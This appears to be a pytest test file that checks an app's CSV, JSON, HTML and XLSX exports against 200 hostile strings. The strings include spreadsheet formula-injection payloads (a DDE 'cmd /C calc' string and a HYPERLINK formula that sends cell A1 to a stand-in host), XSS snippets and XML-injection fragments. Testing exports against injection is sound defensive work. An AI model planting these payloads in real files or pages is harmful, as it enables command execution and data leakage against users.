"""200 hostile texts in every export format, read back with parsers of others.

Expected: the same text in the same cell, nothing that a spreadsheet would run, no markup.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import zipfile
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from python_calamine import CalamineWorkbook

from app.paths import new_file
from app.state.export.export import ExportFile
from app.state.export.export_formats import form_of

TITLES = ["Location", "Owner", "Note", "Decision"]
SUMS = {"total": 1, "open": 1}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_COMMANDS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "{=1+1}",
    "=",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "<!-- ",
    "]]>",
    "&lt;b&gt;&#0;&amp;",
    "&xxe;",
    '<!DOCTYPE a [<!ENTITY b "c">]>',
    "<r><t>rich</t></r>",
    '<r></r></is></c><c r="B2"><f>1+1</f></c>',
    "</t></is></c><c><f>1+1</f><v>2</v></c>",
    "_x0000_",
    "_x003D_1+1",
    "_x005F_x0041_",
    "'quoted'",
    '"quoted"',
    '","=1+1","',
    '"\n=1+1\n"',
    "a,b;c\td",
    "a\r\nb\rc\nd",
    '"}]}, {"results": [',
    "\\\\server\\share\\u0000",
)
_CHARACTERS = (
    "",
    " leading and trailing ",
    "\x00",
    "a\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85",
    "\ufeffbom",
    "\u202egpj.exe",
    "\u2028\u2029",
    "\ufffe\uffff",
    "\U0001f4a9\U0010ffff",
    "e\u0301\u0301\u0301",
    "\u05d0\u05d1 \u0639\u0631",
    "x" * 32_767,
)


def payloads() -> list[str]:
    """Return 200 texts: the ones above, and seeded mixtures of them."""
    known = [*_COMMANDS, *_MARKUP, *_CHARACTERS]
    rng = random.Random(19)
    mixed = [part for part in known if len(part) < 100]
    while len(known) < 200:
        known.append("".join(rng.sample(mixed, rng.randint(2, 4))))
    return known


def exported(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """Write a file as an export does."""
    with new_file(path) as file:
        out = ExportFile(file, form_of(path, TITLES))
        out.open()
        out.write(rows)
        out.close(SUMS)
    return path


@pytest.fixture(scope="module")
def rows() -> list[list[str]]:
    texts = payloads()
    assert len(texts) == 200
    return [[text, f"owner {at}", text, "open"] for at, text in enumerate(texts)]


def unquoted(cell: str) -> str:
    """Return a cell without the apostrophes that keep a spreadsheet from evaluating it."""
    cell = cell[1:] if cell[:1] == "'" and cell[1:2] in _STARTS else cell
    return re.sub("(?<=[,;\t\r\n])(\"*)'(?=[-=+@\uff1d\uff0b\uff0d\uff20])", r"\1", cell)


_STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_csv(rows: list[list[str]], tmp_path: Path) -> None:
    text = exported(tmp_path / "out.csv", rows).read_bytes().decode()
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in read for cell in row if cell[:1] in _STARTS]
    assert [[unquoted(cell) for cell in row] for row in read] == [TITLES, *rows]


def test_json(rows: list[list[str]], tmp_path: Path) -> None:
    read = json.loads(exported(tmp_path / "out.json", rows).read_bytes())
    assert [list(row.values()) for row in read["results"]] == rows
    assert read["sums"] == SUMS


class Table(HTMLParser):
    """Reads the cells of a table, and the names of all tags."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.tags: set[str] = set()
        self._inside = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags |= {tag, *(name for name, _ in attrs)}
        self._inside = tag in {"td", "th"}
        if tag == "tr":
            self.rows.append([])
        elif self._inside:
            self.rows[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        self._inside = False

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.rows[-1][-1] += data


def test_html(rows: list[list[str]], tmp_path: Path) -> None:
    page = Table()
    page.feed(exported(tmp_path / "out.html", rows).read_bytes().decode())
    page.close()
    assert page.rows == [TITLES, *rows]
    allowed = "html lang head meta charset title style body table tr th td p"
    assert page.tags == set(allowed.split())


def test_xlsx_read_by_another_program(rows: list[list[str]], tmp_path: Path) -> None:
    book = CalamineWorkbook.from_path(str(exported(tmp_path / "out.xlsx", rows)))
    assert book.sheet_names == ["Results"]
    read = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert read[0] == TITLES
    assert [row[1] for row in read[1:]] == [row[1] for row in rows]
    simple = [at for at, row in enumerate(rows) if row[0].isprintable() and "_x" not in row[0]]
    assert [read[at + 1][0] for at in simple] == [rows[at][0] for at in simple]


def test_xlsx_has_only_text_cells(rows: list[list[str]], tmp_path: Path) -> None:
    with zipfile.ZipFile(exported(tmp_path / "out.xlsx", rows)) as book:
        parts = {name: ET.fromstring(book.read(name)) for name in book.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert {cell.get("t") for cell in sheet.iter(f"{MAIN}c")} == {"inlineStr"}
    assert not list(sheet.iter(f"{MAIN}f"))
    read = [
        [cell.findtext(f"{MAIN}is/{MAIN}t") or "" for cell in row]
        for row in sheet.iter(f"{MAIN}row")
    ]
    assert [[unescaped(cell) for cell in row] for row in read] == [TITLES, *rows]


@pytest.mark.parametrize("length", [3, 30, 300])
def test_columns_of_a_workbook_fit_their_content_within_limits(tmp_path: Path, length: int) -> None:
    titles = ["Location", "Match"]
    with new_file(tmp_path / "out.xlsx") as file:
        out = ExportFile(file, form_of(tmp_path / "out.xlsx", titles))
        out.open()
        out.write([["x" * length, 1_234_567]])
        out.write([["y", 5]])
        out.close(SUMS)
    with zipfile.ZipFile(tmp_path / "out.xlsx") as book:
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    widths = [int(column.get("width") or 0) for column in sheet.iter(f"{MAIN}col")]
    assert widths == [{3: 10, 30: 32, 300: 60}[length], 11]
    assert len(list(sheet.iter(f"{MAIN}row"))) == 3


def test_a_count_is_a_number_and_a_text_of_digits_is_none(tmp_path: Path) -> None:
    with new_file(tmp_path / "out.xlsx") as file:
        out = ExportFile(file, form_of(tmp_path / "out.xlsx", TITLES))
        out.open()
        out.write([["007", -5, 1_234_567, "open"]])
        out.close(SUMS)
    book = CalamineWorkbook.from_path(str(tmp_path / "out.xlsx"))
    assert book.get_sheet_by_index(0).to_python()[1] == ["007", -5.0, 1_234_567.0, "open"]


def unescaped(cell: str) -> str:
    """Decode the escapes of ST_Xstring, as ECMA-376 tells a reader to."""
    parts, at = [], 0
    while at < len(cell):
        code = cell[at + 2 : at + 6]
        is_code = len(code) == 4 and all(c in "0123456789ABCDEFabcdef" for c in code)
        if cell[at : at + 2] == "_x" and cell[at + 6 : at + 7] == "_" and is_code:
            parts.append(chr(int(code, 16)))
            at += 7
        else:
            parts.append(cell[at])
            at += 1
    return "".join(parts)


def test_a_name_that_is_not_utf8_is_written_with_escapes(tmp_path: Path) -> None:
    for suffix in ("csv", "json", "html"):
        path = exported(tmp_path / f"out.{suffix}", [["/a\udcff", "", "", "open"]])
        assert b"/a\\udcff" in path.read_bytes(), suffix
